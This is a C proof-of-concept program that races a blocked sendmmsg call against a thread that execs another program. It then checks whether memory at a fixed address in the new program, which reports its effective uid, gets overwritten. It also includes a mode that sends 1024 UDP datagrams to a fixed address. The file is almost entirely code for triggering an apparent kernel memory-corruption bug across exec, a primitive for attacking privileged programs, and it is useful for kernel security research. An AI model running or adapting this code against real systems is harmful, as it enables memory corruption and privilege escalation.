// A caller that waits in sendmmsg while another thread of its process executes a program, which has its number and other memory.
//   send PROGRAM   waits, has the program executed as `PROGRAM watch FD`, and lets the message go
//   watch FD       writes to FD, and says whether its memory changes within some time
//   many PORT      1024 messages to 192.88.1.10 in one call
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

enum { PLACE = 0x20000000, WORDS = 1024, PATTERN = 0x41414141 };

static char *program;
static int go[2];

static void *execute(void *unused)
{
	char number[16];
	sprintf(number, "%d", go[1]);
	// Until the other thread waits in its call, which nothing says.
	usleep(50000);
	execl(program, program, "watch", number, NULL);
	printf("not executed: %d\n", errno);
	return NULL;
}

static int send_while_executing(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t length = sizeof at;
	int listener = socket(AF_INET, SOCK_STREAM, 0), out = socket(AF_INET, SOCK_STREAM, 0), room = 4096;
	static char data[65536];
	setsockopt(out, SOL_SOCKET, SO_SNDBUF, &room, sizeof room);
	if (bind(listener, (void *)&at, length) || listen(listener, 1) || getsockname(listener, (void *)&at, &length) || pipe(go))
		return 1;
	if (fork() == 0) {
		int in = accept(listener, NULL, NULL);
		close(out);
		close(go[1]);
		// Once the program is there, what waits is let go.
		read(go[0], data, 1);
		while (read(in, data, sizeof data) > 0) {}
		_exit(0);
	}
	if (connect(out, (void *)&at, length))
		return 2;
	fcntl(out, F_SETFL, O_NONBLOCK);
	// What is acknowledged late (after 40 ms) makes room once more.
	for (int turn = 0; turn < 4; turn++) {
		while (write(out, data, sizeof data) > 0) {}
		usleep(60000);
	}
	while (write(out, data, sizeof data) > 0) {}
	fcntl(out, F_SETFL, 0);
	char *memory = mmap((void *)PLACE, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	struct mmsghdr *message = (void *)(memory + 512);
	static struct iovec piece;
	piece = (struct iovec){ data, 1234 };
	message->msg_hdr.msg_iov = &piece;
	message->msg_hdr.msg_iovlen = 1;
	pthread_t thread;
	pthread_create(&thread, NULL, execute, NULL);
	printf("sent %d %d\n", sendmmsg(out, message, 1, 0), errno);
	return 3;
}

static int watch(int told)
{
	volatile unsigned *words = mmap((void *)PLACE, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	for (int at = 0; at < WORDS; at++)
		words[at] = PATTERN;
	write(told, "x", 1);
	for (int turn = 0; turn < 200; turn++) {
		usleep(2000);
		for (int at = 0; at < WORDS; at++)
			if (words[at] != PATTERN)
				return printf("changed to %u", words[at]), 0;
	}
	printf("whole as %d", geteuid());
	return 0;
}

static int many(int port)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(port) };
	inet_pton(AF_INET, "192.88.1.10", &at.sin_addr);
	static struct mmsghdr messages[1024];
	static struct iovec piece;
	piece = (struct iovec){ "x", 1 };
	for (int index = 0; index < 1024; index++) {
		struct msghdr *header = &messages[index].msg_hdr;
		header->msg_name = &at;
		header->msg_namelen = sizeof at;
		header->msg_iov = &piece;
		header->msg_iovlen = 1;
	}
	int out = socket(AF_INET, SOCK_DGRAM, 0), sent = sendmmsg(out, messages, 1024, 0);
	printf("%d %d", sent, sent < 0 ? errno : 0);
	return 0;
}

int main(int count, char **arguments)
{
	if (count != 3)
		return 1;
	program = arguments[2];
	switch (arguments[1][0]) {
	case 's':
		return send_while_executing();
	case 'w':
		return watch(atoi(program));
	default:
		return many(atoi(program));
	}
}
